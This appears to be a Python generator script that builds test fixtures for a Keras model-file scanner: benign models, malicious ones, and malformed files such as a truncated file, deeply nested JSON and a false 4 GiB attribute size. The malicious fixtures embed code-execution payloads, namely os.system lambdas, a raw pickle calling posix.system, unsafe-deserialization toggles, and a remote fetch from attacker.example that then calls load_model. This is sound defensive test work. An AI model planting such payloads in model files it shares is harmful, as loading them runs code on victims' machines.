"""Builds the Keras fixtures with h5py and the standard library: no TensorFlow or Keras is needed or run.

Run with Debian's interpreter: /usr/bin/python3 gen.py (python3-h5py, python3-numpy).
Malicious fixtures hold marshalled code objects made with compile() + marshal.dumps(), which serialise
the lambda without running it, and a pickle naming posix.system that is written as bytes, never loaded.
"""

import base64
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
BENIGN = os.path.join(HERE, 'benign')
MALICIOUS = os.path.join(HERE, 'malicious')
HOSTILE = os.path.join(HERE, 'hostile')
for folder in (BENIGN, MALICIOUS, HOSTILE):
    os.makedirs(folder, exist_ok=True)

ZIP_DATE = (2024, 1, 1, 0, 0, 0)


def dense(name, units, activation='relu'):
    return {'class_name': 'Dense', 'config': {'name': name, 'trainable': True, 'dtype': 'float32', 'units': units,
            'activation': activation, 'use_bias': True,
            'kernel_initializer': {'class_name': 'GlorotUniform', 'config': {'seed': None}},
            'bias_initializer': {'class_name': 'Zeros', 'config': {}}}}


def sequential(name, layers):
    return {'class_name': 'Sequential', 'config': {'name': name, 'layers': layers}}


def lambda_code(source):
    # compile() builds the code object and marshal.dumps() serialises it; neither runs the lambda body.
    module = compile(source, '<fixture>', 'eval')
    code = next(c for c in module.co_consts if hasattr(c, 'co_code'))
    return base64.b64encode(marshal.dumps(code)).decode('ascii') + '\n'


def keras2_lambda(name, source):
    return {'class_name': 'Lambda', 'config': {'name': name, 'trainable': True, 'dtype': 'float32',
            'function': [lambda_code(source), None, None], 'function_type': 'lambda', 'module': '__main__',
            'output_shape': None, 'output_shape_type': 'raw', 'output_shape_module': None, 'arguments': {}}}


def keras3(module, class_name, config, registered_name=None, **extra):
    return {'module': module, 'class_name': class_name, 'config': config, 'registered_name': registered_name, **extra}


def keras3_dense(name, units):
    return keras3('keras.layers', 'Dense', {'name': name, 'units': units, 'activation': 'relu',
                  'kernel_initializer': keras3('keras.initializers', 'GlorotUniform', {'seed': None})},
                  build_config={'input_shape': [None, 4]})


def keras3_model(layers, name='sequential'):
    return keras3('keras', 'Sequential', {'name': name, 'trainable': True, 'layers': [
        keras3('keras.layers', 'InputLayer', {'batch_shape': [None, 4], 'dtype': 'float32', 'name': 'input'}),
        *layers]}, build_config={'input_shape': [None, 4]})


def write_weights(group, layers):
    group.attrs['layer_names'] = np.array([name.encode() for name, _ in layers])
    group.attrs['backend'] = 'tensorflow'
    group.attrs['keras_version'] = '2.15.0'
    for name, shapes in layers:
        layer = group.create_group(name)
        names = [f'{name}/{w}:0'.encode() for w in shapes]
        layer.attrs['weight_names'] = np.array(names)
        inner = layer.create_group(name)
        for w, shape in shapes.items():
            inner.create_dataset(f'{w}:0', data=np.linspace(-1, 1, int(np.prod(shape)), dtype='float32').reshape(shape))


def keras_h5(path, config, training=None, libver='earliest', config_as_str=False, userblock=0, weights=None,
             extra_attrs=0, fixed=False):
    kwargs = {'libver': libver}
    if userblock:
        kwargs['userblock_size'] = userblock
    with h5py.File(path, 'w', **kwargs) as f:
        f.attrs['keras_version'] = '2.15.0'
        f.attrs['backend'] = 'tensorflow'
        for i in range(extra_attrs):
            f.attrs[f'note_{i:02d}'] = f'padding attribute {i}'
        if config is not None:
            text = config if isinstance(config, str) else json.dumps(config)
            # h5py stores str and bytes as variable-length strings, numpy.bytes_ as a fixed-length one.
            value = np.bytes_(text.encode('utf8')) if fixed else text.encode('utf8')
            f.attrs['model_config'] = text if config_as_str else value
        write_weights(f.create_group('model_weights'), weights or [('dense', {'kernel': (4, 2), 'bias': (2,)})])
        if training is not None:
            f.attrs['training_config'] = json.dumps(training).encode('utf8')


def keras_zip(path, config, weights=True):
    buffer = io.BytesIO()
    if weights:
        with h5py.File(buffer, 'w') as f:
            layers = f.create_group('layers')
            d = layers.create_group('dense').create_group('vars')
            d.create_dataset('0', data=np.ones((4, 2), dtype='float32'))
            d.create_dataset('1', data=np.zeros((2,), dtype='float32'))
            f.create_group('optimizer').create_group('vars')
    members = [
        ('metadata.json', json.dumps({'keras_version': '3.8.0', 'date_saved': '2024-01-01@00:00:00'}).encode()),
        ('config.json', json.dumps(config).encode()),
    ]
    if weights:
        members.append(('model.weights.h5', buffer.getvalue()))
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, ZIP_DATE), data)


# ---------------------------------------------------------------- benign
conv_config = sequential('sequential', [
    {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None, 8, 8, 1], 'dtype': 'float32', 'name': 'in'}},
    {'class_name': 'Conv2D', 'config': {'name': 'conv2d', 'filters': 2, 'kernel_size': [3, 3], 'activation': 'relu',
                                        'padding': 'valid', 'strides': [1, 1]}},
    {'class_name': 'Flatten', 'config': {'name': 'flatten'}},
    dense('dense', 2, 'softmax'),
])
training = {'loss': 'categorical_crossentropy', 'metrics': [[{'class_name': 'MeanMetricWrapper',
            'config': {'name': 'accuracy', 'dtype': 'float32', 'fn': 'categorical_accuracy'}}]],
            'optimizer_config': {'class_name': 'Adam', 'config': {'name': 'Adam', 'learning_rate': 0.001}}}
keras_h5(os.path.join(BENIGN, 'sequential_conv.h5'), {'class_name': 'Sequential', **conv_config}, training=training,
         weights=[('conv2d', {'kernel': (3, 3, 1, 2), 'bias': (2,)}), ('dense', {'kernel': (72, 2), 'bias': (2,)})])

inner = sequential('encoder', [dense('enc_1', 4), dense('enc_2', 2)])
functional = {'class_name': 'Functional', 'config': {'name': 'model', 'layers': [
    {'class_name': 'InputLayer', 'name': 'input_1', 'config': {'batch_input_shape': [None, 4], 'name': 'input_1'},
     'inbound_nodes': []},
    {**inner, 'name': 'encoder', 'inbound_nodes': [[['input_1', 0, 0, {}]]]},
    {**dense('head', 1, 'sigmoid'), 'name': 'head', 'inbound_nodes': [[['encoder', 1, 0, {}]]]},
], 'input_layers': [['input_1', 0, 0]], 'output_layers': [['head', 0, 0]]}}
keras_h5(os.path.join(BENIGN, 'functional_nested.h5'), functional, libver='latest', config_as_str=True)
keras_h5(os.path.join(BENIGN, 'weights_only.h5'), None)
keras_h5(os.path.join(BENIGN, 'userblock.h5'), conv_config, userblock=1024, fixed=True)
# More than 8 attributes and a config over 4 KiB: dense attribute storage, the config a huge fractal-heap object.
big = sequential('big', [dense(f'dense_{i}', 4) for i in range(300)])
keras_h5(os.path.join(BENIGN, 'dense_attributes.h5'), big, libver='latest', extra_attrs=12)
keras_zip(os.path.join(BENIGN, 'model.keras'), keras3_model([keras3_dense('dense', 2)]))

# -------------------------------------------------------------- malicious
SYSTEM = "lambda x: __import__('os').system('id')"
keras_h5(os.path.join(MALICIOUS, 'lambda_os_system.h5'),
         sequential('sequential', [dense('dense', 4), keras2_lambda('lambda', SYSTEM)]))
keras_h5(os.path.join(MALICIOUS, 'lambda_benign_math.h5'),
         sequential('sequential', [keras2_lambda('lambda', 'lambda x: x * 2 + 1')]))
keras3_lambda = keras3('keras.layers', 'Lambda', {'name': 'lambda', 'function': keras3(
    None, '__lambda__', {'code': lambda_code(SYSTEM), 'defaults': None, 'closure': None}), 'arguments': {}})
keras_zip(os.path.join(MALICIOUS, 'lambda_keras3.keras'), keras3_model([keras3_lambda]))

os_system_fn = keras3('os', 'function', 'system', 'function')
keras_zip(os.path.join(MALICIOUS, 'function_os_system.keras'), keras3_model([keras3('keras.layers', 'Dense', {
    'name': 'dense', 'units': 2, 'activation': os_system_fn})]))
keras_zip(os.path.join(MALICIOUS, 'custom_module.keras'), keras3_model([keras3(
    'acme_layers.backdoor', 'Backdoor', {'name': 'backdoor'}, 'acme>Backdoor')]))

# torch.save output: a zip holding archive/data.pkl. The pickle is written as bytes (GLOBAL posix.system).
payload = b'\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.'
torch_zip = io.BytesIO()
with zipfile.ZipFile(torch_zip, 'w', zipfile.ZIP_STORED) as z:
    z.writestr(zipfile.ZipInfo('archive/data.pkl', ZIP_DATE), payload)
    z.writestr(zipfile.ZipInfo('archive/version', ZIP_DATE), b'3\n')
wrapper = keras3('keras.layers', 'TorchModuleWrapper', {'name': 'torch_module_wrapper', 'module': keras3(
    None, '__bytes__', {'value': base64.b64encode(torch_zip.getvalue()).decode('ascii')})})
keras_zip(os.path.join(MALICIOUS, 'torch_module_wrapper.keras'), keras3_model([wrapper]))

unsafe = keras3('keras.layers', 'Lambda', {'name': 'unsafe', 'function': keras3(
    'keras.config', 'function', 'enable_unsafe_deserialization', 'function'), 'arguments': {}})
keras_zip(os.path.join(MALICIOUS, 'enable_unsafe_deserialization.keras'), keras3_model([unsafe, keras3_lambda]))

get_file = keras3('keras.layers', 'Lambda', {'name': 'fetch', 'function': keras3(
    'keras.utils', 'function', 'get_file', 'function'), 'arguments': {
    'origin': 'https://attacker.example/payload.keras', 'cache_dir': '/tmp/x', 'extract': True}})
load = keras3('keras.layers', 'Lambda', {'name': 'load', 'function': keras3(
    'keras.models', 'function', 'load_model', 'function'), 'arguments': {'safe_mode': False}})
keras_zip(os.path.join(MALICIOUS, 'get_file_load_model.keras'), keras3_model([get_file, load]))

keras_h5(os.path.join(MALICIOUS, 'activation_os_system.h5'), sequential('sequential', [
    {'class_name': 'Dense', 'config': {'name': 'dense', 'units': 2, 'activation': os_system_fn}}]))
keras_h5(os.path.join(MALICIOUS, 'lambda_dense_attributes.h5'),
         sequential('sequential', [dense(f'd{i}', 4) for i in range(30)] + [keras2_lambda('lambda', SYSTEM)]),
         libver='latest', extra_attrs=10)

# ---------------------------------------------------------------- hostile
with open(os.path.join(BENIGN, 'sequential_conv.h5'), 'rb') as f:
    whole = f.read()
with open(os.path.join(HOSTILE, 'truncated.h5'), 'wb') as f:
    f.write(whole[:700])
keras_h5(os.path.join(HOSTILE, 'invalid_json.h5'), '{"class_name": "Sequential", "config": {')
# Written as text: json.dumps itself recurses too deeply for this. The Lambda sits past any depth bound.
deep = '{"class_name": "Sequential", "config": {"name": "s", "layers": [' * 2000
deep += json.dumps(keras2_lambda('lambda', SYSTEM)) + ']}}' * 2000
keras_h5(os.path.join(HOSTILE, 'deep_nesting.h5'), deep, libver='latest', config_as_str=True)
# The model_config attribute message claims a 4 GiB string: the reader must refuse, not allocate.
keras_h5(os.path.join(HOSTILE, 'huge_attribute.h5'), conv_config)
data = bytearray(open(os.path.join(HOSTILE, 'huge_attribute.h5'), 'rb').read())
at = data.find(b'model_config\x00')
# v1 attribute message: name (padded to 8), then the datatype message whose size field is at +4.
dt = at + ((len('model_config') + 1 + 7) // 8) * 8
data[dt + 4:dt + 8] = (0xFFFFFFF0).to_bytes(4, 'little')
open(os.path.join(HOSTILE, 'huge_attribute.h5'), 'wb').write(bytes(data))
print('ok')
